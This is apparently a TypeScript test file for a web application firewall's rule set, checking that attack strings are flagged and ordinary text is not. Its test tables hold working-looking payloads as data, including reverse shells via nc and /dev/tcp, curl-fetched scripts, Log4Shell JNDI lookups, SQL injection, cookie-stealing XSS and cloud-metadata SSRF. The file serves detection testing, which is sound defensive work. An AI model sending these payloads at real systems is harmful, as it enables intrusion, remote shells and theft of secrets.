/** moat's own rules: what each of them is for, and what honest people write. */
import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { test } from 'node:test';
import { compileRules, formatWafDiagnostic, type RequestHead, type Transaction } from '#waf';
import { fileLoader } from './file-loader.ts';

const FOLDER = new URL('../../waf/rules/', import.meta.url).pathname;
const FILES = [
  `${FOLDER}base.conf`,
  ...readdirSync(`${FOLDER}default`)
    .sort()
    .map(file => `${FOLDER}default/${file}`),
];
const { rules, diagnostics } = compileRules(FILES, fileLoader);
assert.ok(rules, diagnostics.map(formatWafDiagnostic).join('\n'));

const head = (target: string, headers: readonly string[], method = 'GET'): RequestHead => ({
  id: 'x',
  method,
  target,
  protocol: 'HTTP/1.1',
  headers: ['Host', 'shop.example', 'User-Agent', 'Mozilla/5.0', 'Accept', '*/*', ...headers],
  clientAddress: '192.0.2.1',
  clientPort: 1,
  serverAddress: '192.0.2.2',
  serverPort: 80,
});

function inspect(target: string, headers: readonly string[], body = ''): Transaction {
  const transaction = rules!.transaction(head(target, headers, body === '' ? 'GET' : 'POST'));
  transaction.inspectHead();
  if (body !== '') transaction.requestBody(body);
  transaction.inspectRequest();
  return transaction;
}

const asked = (value: string): Transaction => inspect(`/x?q=${encodeURIComponent(value)}`, []);
const posted = (value: string): Transaction =>
  inspect('/x', ['Content-Type', 'application/x-www-form-urlencoded'], `text=${encodeURIComponent(value)}`);

/** The rule that has to see it, and what it looks for. */
const ATTACKS: readonly (readonly [number, string])[] = [
  [3102, 'a\0b'],
  [3103, 'x\r\nSet-Cookie: a=b'],
  [3104, 'GET /admin HTTP/1.1'],
  [3108, '%c0%af'],
  [3300, '../../../../var/log/app'],
  [3301, '/etc/passwd'],
  [3301, 'c:\\windows\\system32\\drivers'],
  [3302, 'php://filter/convert.base64-encode/resource=index'],
  [3302, 'data://text/plain;base64,PD9waHA='],
  [3400, '; cat /etc/hostname'],
  [3400, '| nc 192.0.2.1 4444 -e sh'],
  [3400, '$(curl http://x.example/a.sh)'],
  [3400, '`id`'],
  [3401, '() { :; }; echo vulnerable'],
  [3401, 'bash -i >& /dev/tcp/192.0.2.1/1'],
  [3402, "<?php system('id'); ?>"],
  [3402, "eval($_POST['c'])"],
  [3403, '${jndi:ldap://x.example/a}'],
  [3403, 'java.lang.Runtime.getRuntime().exec("id")'],
  [3404, "require('child_process').exec('id')"],
  [3404, '__import__("os").system("id")'],
  [3404, 'O:8:"Evil_One":1:{s:1:"a";i:1;}'],
  [3500, '{{7*7}}'],
  [3500, '{{config.__class__}}'],
  [3500, '${7*7}'],
  [3501, '<!--#exec cmd="id"-->'],
  [3502, '*)(uid=*))(|(uid=*'],
  [3600, "1' OR '1'='1"],
  [3600, '1 UNION SELECT 1,2,3-- '],
  [3601, "'; DROP TABLE users"],
  [3601, '1 AND SLEEP(5)'],
  [3602, '{"$ne": null}'],
  [3700, '<script>alert(1)</script>'],
  [3700, '"><img src=x onerror=alert(1)>'],
  [3701, 'javascript:alert(document.cookie)'],
  [3800, 'http://169.254.169.254/latest/meta-data/'],
  [3801, 'http://127.0.0.1:8080/admin'],
  [3802, 'gopher://x.example/_'],
  [3803, 'http://abc.oastify.com/'],
];

for (const [id, value] of ATTACKS) {
  test(`rule ${id} sees ${JSON.stringify(value)}`, () => {
    for (const transaction of [asked(value), posted(value)]) {
      const ids = transaction.matchedRules.map(({ rule }) => rule.id);
      assert.ok(ids.includes(id), `matched: ${ids.join(', ') || 'nothing'}`);
    }
  });
}

test('every rule that scores a value of a form is in the table above', () => {
  const tried = new Set(ATTACKS.map(([id]) => id));
  const untried = [3105, 3106, 3107, 3200, 3201, 3202, 3109, 3203, 3405, 3503, 3702];
  const scoring = FILES.flatMap(file => [
    ...fileLoader.read(file)!.matchAll(/id:(3[1-8]\d\d),phase:[12],pass,log/g),
  ]);
  for (const [, id] of scoring) {
    assert.ok(tried.has(Number(id)) || untried.includes(Number(id)), `${id} has no case`);
  }
});

const FIELDS: readonly (readonly [number, string, readonly string[]])[] = [
  [3105, '/x', ['Range', 'bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13']],
  [3106, '/x', ['Content-Type', 'text/plain; charset=utf-7']],
  [3107, '/x', ['X-Api', '${jndi:rmi://x}']],
  [3200, '/x', ['User-Agent', 'sqlmap/1.8']],
  [3201, '/.git/config', []],
  [3201, '/a/../.env', []],
  [3202, '/dump.sql', []],
  [3203, '/actuator/heapdump', []],
];

for (const [id, target, fields] of FIELDS) {
  test(`rule ${id} sees ${target} ${fields.join(' ')}`, () => {
    const ids = inspect(target, fields).matchedRules.map(({ rule }) => rule.id);
    assert.ok(ids.includes(id), ids.join(', '));
  });
}

const HONEST: readonly string[] = [
  "O'Reilly & Sons, 50% off; call 555-1234",
  'Please select a table from the list and drop me a line',
  'The union of these sets, or the other one and mine',
  'a < b && c > d || e == f',
  'if (x) { return y; } // a comment',
  '# Heading\n\n- one\n- two\n\n```js\nconst a = 1;\n```',
  '{"id":1,"tags":["a","b"],"nested":{"ok":true}}',
  '请选择一个选项，谢谢！价格：¥100（含税）',
  'https://www.example.com/path?a=1&b=2#part',
  'C:\\Users\\me\\Documents\\report.docx',
  'SELECT is a word, FROM is another',
  'Cats; dogs | birds',
  'me@example.com, +49 (30) 123-456',
  '<b>bold</b> and <i>italic</i>',
  'The script of the film was on the table',
  '2026-11-27T21:00:00Z',
  '{{ name }} is a placeholder',
  'price: $100 (was $120)',
  'see ../README for more',
];

for (const text of HONEST) {
  test(`nothing is refused in ${JSON.stringify(text)}`, () => {
    for (const transaction of [asked(text), posted(text)]) {
      const told = transaction.matchedRules.map(({ rule, message }) => `${rule.id} ${message}`);
      assert.equal(transaction.decision, undefined, told.join(', '));
    }
  });
}
